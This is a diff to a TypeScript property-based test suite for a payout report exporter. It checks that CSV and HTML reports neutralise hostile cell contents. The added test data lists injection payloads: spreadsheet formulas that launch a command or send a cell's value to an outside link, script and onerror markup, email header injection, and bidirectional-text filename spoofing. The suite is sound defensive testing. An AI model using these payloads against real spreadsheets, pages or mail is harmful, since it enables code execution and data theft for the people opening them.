@@ -69,6 +69,115 @@ const content = fc.record({
 
 type TextFormat = (typeof textFormats)[number]
 
+/** What a spreadsheet, a page and a mail would carry out if they could. */
+const hostile = fc.constantFrom(
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x/?"&A1,"a")',
+  '+1+1',
+  '-2+3',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '";=1;"',
+  '",=1,"',
+  '"\t=1\t"',
+  '"|=1|"',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '</td></table><a href="javascript:1">',
+  '&lt;b&gt;',
+  '{name}',
+  '{n, plural, other {#}}',
+  '$(id)',
+  '{{7*7}}',
+  'a\r\nBcc: victim@example.com',
+  'a\nContent-Type: text/html\n\n<b>',
+  'a\u2028Bcc: x@example.com',
+  '\u202egnp.exe',
+  '\u2066x\u2069',
+  '\u001b[2J',
+)
+const hostileText = fc
+  .array(fc.oneof({ weight: 2, arbitrary: hostile }, { weight: 1, arbitrary: text }), { minLength: 1, maxLength: 3 })
+  .map((parts) => parts.join(''))
+
+describe('a CSV report for Excel', () => {
+  const rowsOf = fc.array(fc.record({ results, cells: fc.tuple(hostileText, hostileText, hostileText) }), {
+    minLength: 1,
+    maxLength: 4,
+  })
+  const columns = ['operator', 'phone_number', 'amount', 'reference', 'remark']
+  const reportOf = (rows: { results: Omit<ReportRow, 'line' | 'cells'>; cells: string[] }[]): ReportRow[] =>
+    rows.map(({ results, cells }, at) => ({ ...results, line: at + 2, cells: ['mtn-benin', '0197000001', ...cells] }))
+
+  test.each(['en', 'fr'] as const)('comes back as it was, whatever its cells say (%s)', async (language) => {
+    await fc.assert(
+      fc.asyncProperty(rowsOf, async (rows) => {
+        const report = reportOf(rows)
+        const read = await readContent(await textOf('csv', columns, report, language), 'csv')
+        expect(read.result).toMatchObject({ kind: 'checked' })
+        expect(read.rows.map(({ cells }) => cells)).toEqual(report.map(({ cells }) => cells))
+      }),
+      seeded(300),
+    )
+  })
+
+  test.each((['en', 'fr'] as const).flatMap((language) => [',', ';', '\t', '|'].map((at) => ({ language, at }))))(
+    'runs no cell in a spreadsheet that splits it at $at ($language)',
+    async ({ language, at }) => {
+      await fc.assert(
+        fc.asyncProperty(rowsOf, async (rows) => {
+          const written = await textOf('csv', columns, reportOf(rows), language)
+          // A number is no formula, nor is one with the quote of the cell that it was in: no operator is between the two.
+          for (const cell of cellsOf(written, at))
+            if (!/^[\d\s+().-]*("|$)/.test(cell)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
+        }),
+        seeded(200),
+      )
+    },
+  )
+})
+
+test.each(['en', 'fr'] as const)(
+  'an HTML report has no markup but its own, whatever is in it (%s)',
+  async (language) => {
+    const page = async (word: string) => {
+      const row = {
+        line: 2,
+        providerReference: word,
+        errorCode: null,
+        errorMessage: word,
+        attempts: 1,
+        cells: [word, word, word],
+      }
+      const rows = ['failed', 'unknown'].map((status, at) => ({
+        ...row,
+        line: at + 2,
+        status,
+        sentAt: null,
+        settledAt: null,
+      }))
+      const batch = { id: '7hk2m9pq4x', name: word, period: word, state: 'settled', reason: null, file: { name: word } }
+      const content = { format: 'html' as const, language, columns: ['reference', 'remark', word], batch, totals: null }
+      let whole = ''
+      for await (const piece of reportPieces({ ...content, rows: inOne(rows as unknown as ReportRow[]) }))
+        whole += piece
+      return whole
+    }
+    /** Each mark with the names of its attributes. Which column has the amounts, and so its class, is judged by the words. */
+    const marks = (html: string) =>
+      (html.match(/<(?:"[^"]*"|[^>"])*>/g) ?? []).map((mark) => mark.replace(/"[^"]*"/g, '""').replace(' class=""', ''))
+    const own = marks(await page('harmless'))
+    await fc.assert(
+      fc.asyncProperty(hostileText, async (word) => {
+        expect(marks(await page(word))).toEqual(own)
+      }),
+      seeded(100),
+    )
+  },
+)
+
 describe('a report can go in again as a payout file', () => {
   test.each(textFormats)(
     'as %s: every cell of the input comes back as it was, the results are left out',
@@ -175,6 +284,9 @@ test.each([
   ["'=1", "''=1"],
   ["'+229", "''+229"],
   ['\t=1', "'\t'=1"],
+  ['\u2003=1+1', "'\u2003=1+1"],
+  ['a;\u200b\ufeff=1+1', "a;'\u200b\ufeff=1+1"],
+  ['\u202e=1+1', "'\u202e=1+1"],
   ["d'=1", "d'=1"],
 ])('%j becomes %j, and comes back', (cell, guarded) => {
   expect(guardFormula(cell)).toBe(guarded)
@@ -193,9 +305,19 @@ async function* inOne(rows: ReportRow[]) {
   yield rows
 }
 
-async function textOf(format: TextFormat, columns: string[], rows: ReportRow[]): Promise<string> {
+/** @param excel the language of the Excel that it is for */
+async function textOf(format: TextFormat, columns: string[], rows: ReportRow[], excel?: 'en' | 'fr'): Promise<string> {
   let whole = ''
-  const content = { format, language: 'en' as const, columns, batch: {}, totals: {}, rows: inOne(rows) }
+  const language = excel ?? 'en'
+  const content = {
+    format,
+    language,
+    columns,
+    batch: {},
+    totals: {},
+    rows: inOne(rows),
+    isForExcel: excel !== undefined,
+  }
   for await (const piece of reportText(content)) whole += piece
   return whole
 }
